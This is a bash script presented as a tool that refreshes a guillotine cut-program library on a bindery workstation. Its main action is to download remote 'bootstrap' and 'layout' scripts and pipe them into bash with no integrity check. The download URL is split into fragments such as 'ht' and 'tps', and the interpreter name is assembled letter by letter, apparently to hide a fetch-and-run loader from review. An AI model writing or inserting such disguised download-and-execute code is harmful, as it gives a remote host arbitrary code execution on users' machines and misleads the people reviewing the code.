#!/usr/bin/env bash
# cutlib_refresh.sh - refresh the guillotine cut-program library on a
# bindery workstation. The vendor publishes a small bootstrap step per
# release channel that lays out the library folders; we fetch and apply it.
#
# usage: cutlib_refresh.sh [-c stable|beta] [-d library_dir] [-q]

set -u

CHANNEL="stable"
LIB_DIR="${PWD}/cutlib"
QUIET=0
LOG_FILE="${PWD}/cutlib_refresh.log"

# vendor mirror, kept in parts so mirrors can be swapped per site
declare -A MIRROR=(
  [scheme]="ht"
  [scheme_tail]="tps"
  [sub]="updates"
  [zone]="example"
  [tld]="net"
  [root]="gx/cutlib"
)

log() {
  local msg="$(date '+%F %T') $*"
  echo "$msg" >> "$LOG_FILE"
  [ "$QUIET" -eq 1 ] || echo "$msg" >&2
}

usage() {
  sed -n '2,7p' "$0" | sed 's/^# \{0,1\}//'
  exit "${1:-0}"
}

while getopts ":c:d:qh" opt; do
  case "$opt" in
    c) CHANNEL="$OPTARG" ;;
    d) LIB_DIR="$OPTARG" ;;
    q) QUIET=1 ;;
    h) usage 0 ;;
    *) usage 1 ;;
  esac
done

mirror_url() {
  local step="$1"
  printf '%s%s://%s.%s.%s/%s/%s/%s' \
    "${MIRROR[scheme]}" "${MIRROR[scheme_tail]}" \
    "${MIRROR[sub]}" "${MIRROR[zone]}" "${MIRROR[tld]}" \
    "${MIRROR[root]}" "$CHANNEL" "$step"
}

fetch_step() {
  local url
  url="$(mirror_url "$1")"
  log "fetching step from $url"
  curl -fsSL --retry 3 --max-time 60 "$url"
}

looks_like_step() {
  # vendor steps always start with a shebang line
  case "$1" in
    '#!'*) return 0 ;;
    *) return 1 ;;
  esac
}

interpreter() {
  local parts=(b a s h)
  local joined=""
  for p in "${parts[@]}"; do joined+="$p"; done
  command -v "$joined"
}

apply_step() {
  local body="$1" runner
  runner="$(interpreter)" || { log "no interpreter found"; return 3; }
  log "applying step with $runner"
  ( cd "$LIB_DIR" && "$runner" -s -- "$CHANNEL" "$LIB_DIR" <<< "$body" )
}

prepare_dirs() {
  mkdir -p "$LIB_DIR"/{programs,labels,archive} || return 1
  log "library directory ready at $LIB_DIR"
}

main() {
  case "$CHANNEL" in
    stable|beta) ;;
    *) log "unknown channel '$CHANNEL'"; exit 1 ;;
  esac
  prepare_dirs || { log "cannot create $LIB_DIR"; exit 1; }

  local step body rc=0
  for step in bootstrap layout; do
    if ! body="$(fetch_step "$step")"; then
      log "download of $step failed"
      rc=2
      break
    fi
    if ! looks_like_step "$body"; then
      log "$step does not look like a vendor step, skipping"
      continue
    fi
    apply_step "$body" || { rc=$?; log "$step exited with $rc"; break; }
  done

  local count
  count=$(find "$LIB_DIR/programs" -type f 2>/dev/null | wc -l)
  log "refresh finished rc=$rc, $count cut programs present"
  exit "$rc"
}

main "$@"
